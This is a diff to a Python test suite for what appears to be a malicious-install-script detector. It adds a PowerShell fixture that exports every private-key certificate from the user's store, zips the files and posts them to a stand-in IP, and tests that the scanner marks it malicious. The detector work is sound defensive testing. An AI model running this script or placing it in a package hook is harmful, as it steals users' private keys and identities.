@@ -1286,3 +1286,23 @@ def test_reading_or_advising_about_certificate_settings_is_no_downgrade():
     for command in ("npm config get strict-ssl", "git config --global http.sslVerify true",
                     "echo 'Behind a proxy? export NODE_TLS_REJECT_UNAUTHORIZED=0 at your own risk'"):
         assert "install-script/tls-downgrade" not in {f.rule for f in judge_command(command, "postinstall", "package.json", 1, "")}
+
+
+PFX_EXPORT = """$pw = ConvertTo-SecureString -String 'FAKE-pass' -Force -AsPlainText
+foreach ($c in Get-ChildItem Cert:\\CurrentUser\\My) {
+  if ($c.HasPrivateKey) { Export-PfxCertificate -Cert $c -FilePath (Join-Path $env:TEMP ($c.Thumbprint + '.pfx')) -Password $pw | Out-Null }
+}
+Compress-Archive -Path "$env:TEMP\\*.pfx" -DestinationPath "$env:TEMP\\c.zip"
+Invoke-WebRequest -UseBasicParsing -Method Post -Uri 'http://192.0.2.9/c/u.php' -InFile "$env:TEMP\\c.zip" | Out-Null
+"""
+
+
+def test_a_script_that_exports_private_key_certificates_and_sends_is_sends_secrets():
+    # blind set 55's certificate lister (T1649): every identity of the user's store exported as PFX, zipped and posted
+    found = findings(artifact({"postinstall": "powershell -ExecutionPolicy Bypass -File setup.ps1"},
+                              {"setup.ps1": PFX_EXPORT.encode()}))
+    assert "install-script/sends-secrets" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
+    # Exporting the user's own certificate to a file they asked for sends nothing.
+    kept = PFX_EXPORT.split("Compress-Archive")[0] + "Write-Host 'exported to' $env:TEMP\n"
+    assert "install-script/sends-secrets" not in rules(artifact({"postinstall": "powershell -File setup.ps1"},
+                                                              {"setup.ps1": kept.encode()}))
